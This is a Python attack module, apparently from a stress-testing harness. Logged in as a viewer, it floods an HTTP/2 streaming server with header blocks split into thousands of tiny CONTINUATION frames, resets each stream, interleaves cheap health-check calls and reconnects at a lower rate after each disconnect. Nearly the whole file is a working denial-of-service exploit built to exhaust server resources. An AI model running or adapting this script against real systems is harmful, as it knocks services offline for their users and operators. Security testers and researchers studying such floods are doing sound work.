"""A viewer's headers in crumbs. Cheap calls between them earn him the bytes for the next."""

import itertools
import time

import wire
from target import Cut

WAYS = ("tls", "plain")
ROLE = "viewer"
FLOOR = {"frames": 500}
# What a header takes on the wire, and of how many bytes; the begin of it comes whole.
WHOLE, CRUMBS = 24 << 10, 5500
CALLS = 8
# In bytes a second; less after it was cut off.
RATE_FIRST, RATE_MIN, SLOWER = 300 << 10, 8 << 10, 0.7
TICK_S = 0.01


def attack(target):
    rate = RATE_FIRST
    for number in itertools.count():
        try:
            with target.connect(number) as connection:
                connection.open_call(wire.STREAM_DISPLAY, wire.stream_start(target.display), False,
                                     target.credentials())
                # Who is known may send more.
                connection.await_served()
                linger(target, connection, 0.2)
                while True:
                    crumble(target, connection, rate)
        except Cut as cut:
            target.cut(cut)
            rate = max(RATE_MIN, rate * SLOWER)


def crumble(target, connection, rate):
    """One header, and the calls that pay for the next."""
    stream = connection.next_stream
    connection.next_stream += 2
    begin = b"".join(wire.literal(name, value) for name, value in
                     wire.request_headers(wire.HEALTH_CHECK, target.scheme))
    begin += b"\x00" + wire.string("x") + wire.integer(WHOLE + CRUMBS, 7)
    connection.queue(wire.frame(wire.HEADERS, 0, stream, begin))
    for at in range(0, WHOLE, wire.FRAME_MAX):
        size = min(WHOLE - at, wire.FRAME_MAX)
        connection.queue(wire.frame(wire.CONTINUATION, 0, stream, b"y" * size))
    crumb = wire.frame(wire.CONTINUATION, 0, stream, b"y")
    each_tick = max(1, int(rate * TICK_S / len(crumb)))
    for at in range(0, CRUMBS, each_tick):
        count = min(CRUMBS - at, each_tick)
        connection.queue(crumb * count)
        connection.count("frames", count)
        linger(target, connection, TICK_S)
    connection.queue(wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream))
    connection.queue(wire.rst_stream(stream))
    connection.count("headers")
    for _ in range(CALLS):
        connection.open_call(wire.HEALTH_CHECK, b"")
    connection.count("calls", CALLS)
    linger(target, connection, CALLS * TICK_S)


def linger(target, connection, seconds):
    until = time.monotonic() + seconds
    while True:
        connection.flush()
        connection.discard()
        left = until - time.monotonic()
        if left <= 0 and not connection.queued:
            return
        time.sleep(min(target.left(), max(left, 0.001), TICK_S))
